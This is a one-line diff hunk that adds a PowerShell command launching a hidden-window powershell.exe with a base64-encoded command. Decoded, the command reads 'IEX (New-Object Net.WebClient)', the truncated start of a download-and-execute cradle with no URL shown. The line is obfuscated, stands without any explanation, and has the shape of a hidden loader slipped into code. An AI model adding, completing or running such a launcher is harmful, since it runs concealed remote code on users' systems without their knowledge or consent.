@@ -1,0 +1,1 @@
+Start-Process powershell.exe -WindowStyle Hidden -ArgumentList "-NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
